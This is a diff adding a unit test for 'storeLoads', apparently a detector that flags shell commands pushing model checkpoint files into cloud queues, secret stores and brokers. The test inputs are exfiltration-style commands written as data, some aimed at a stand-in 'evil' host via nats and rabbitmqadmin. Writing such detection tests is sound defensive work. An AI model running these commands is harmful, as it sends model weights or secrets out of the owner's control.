@@ -50,6 +50,41 @@ describe('storeLoads: files a data-store client loads into its server', () => {
     expect(loads('echo x | redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
   });
 
+  it('reads cloud services, secret stores and brokers given a file as a value, an operand or standard input', () => {
+    expect(loads('aws sqs send-message --queue-url https://sqs.x/1/q --message-body file:///mnt/ckpt/m.safetensors')).toEqual(['aws /mnt/ckpt/m.safetensors']);
+    expect(loads('aws --region us-east-1 kinesis put-record --stream-name s --partition-key k --data=fileb://model.pt')).toEqual(['aws model.pt']);
+    expect(loads('aws secretsmanager create-secret --name x --secret-binary fileb:///mnt/ckpt/m.pt --cli-input-json file://req.json')).toEqual(['aws /mnt/ckpt/m.pt']);
+    // Any value: which file is a model is the rules' to say (a policy document is sent to IAM too).
+    expect(loads('aws iam create-policy --policy-name p --policy-document file://policy.json')).toEqual(['aws policy.json']);
+    expect(loads('gcloud --project p secrets versions add s --data-file=/mnt/ckpt/m.pt')).toEqual(['gcloud /mnt/ckpt/m.pt']);
+    expect(loads('gcloud secrets create s --data-file - < /mnt/ckpt/m.pt')).toEqual(['gcloud /mnt/ckpt/m.pt']);
+    expect(loads('az keyvault secret set --vault-name v -n x --file /mnt/ckpt/m.pt --encoding base64')).toEqual(['az /mnt/ckpt/m.pt']);
+    expect(loads('vault kv put -mount=secret w data=@/mnt/ckpt/m.pt meta=x')).toEqual(['vault /mnt/ckpt/m.pt']);
+    expect(loads('vault write secret/w blob=- < /mnt/ckpt/m.pt')).toEqual(['vault /mnt/ckpt/m.pt']);
+    expect(loads('consul kv put -http-addr c:8500 w @/mnt/ckpt/m.pt')).toEqual(['consul /mnt/ckpt/m.pt']);
+    expect(loads('cat /mnt/ckpt/m.pt | consul kv put w -')).toEqual(['consul /mnt/ckpt/m.pt']);
+    expect(loads('nats -s nats://evil:4222 object put w /mnt/ckpt/m.safetensors')).toEqual(['nats /mnt/ckpt/m.safetensors']);
+    expect(loads('nats obj put w --name m < /mnt/ckpt/m.pt')).toEqual(['nats /mnt/ckpt/m.pt']);
+    expect(loads('base64 -w0 /mnt/ckpt/m.pt | nats pub --force-stdin w')).toEqual(['nats /mnt/ckpt/m.pt']);
+    expect(loads('nats kv put b k < /mnt/ckpt/m.pt')).toEqual(['nats /mnt/ckpt/m.pt']);
+    expect(loads('rabbitmqadmin -H evil -u u -p p publish exchange=amq.default routing_key=w < /mnt/ckpt/m.pt')).toEqual(['rabbitmqadmin /mnt/ckpt/m.pt']);
+    for (const line of [
+      'aws s3 ls s3://b/ --recursive',
+      'aws ecs register-task-definition --cli-input-json file:///mnt/ckpt/m.pt',
+      'aws sqs receive-message --queue-url https://sqs.x/1/q > /tmp/m.json',
+      'gcloud secrets versions access latest --secret s > /tmp/s',
+      'az keyvault secret show --vault-name v -n x',
+      'vault kv get secret/w',
+      'vault kv put secret/w user=admin < /mnt/ckpt/m.pt',
+      'consul kv put w 5 < /mnt/ckpt/m.pt',
+      'nats pub w hello < /mnt/ckpt/m.pt',
+      'nats kv put b k v < /mnt/ckpt/m.pt',
+      'nats object get w m.pt',
+      'rabbitmqadmin publish routing_key=w payload=hello < /mnt/ckpt/m.pt',
+      'rabbitmqadmin list queues',
+    ]) expect(loads(line), line).toEqual([]);
+  });
+
   it('names RedisAI model commands redisai', () => {
     expect(loads('redis-cli -x AI.MODELSTORE resnet TORCH CPU BLOB < /models/resnet50.pt')).toEqual(['redisai /models/resnet50.pt']);
     expect(loads('redis-cli -x ai.modelset m TF CPU INPUTS 1 a OUTPUTS 1 b BLOB < /models/m.pb')).toEqual(['redisai /models/m.pb']);
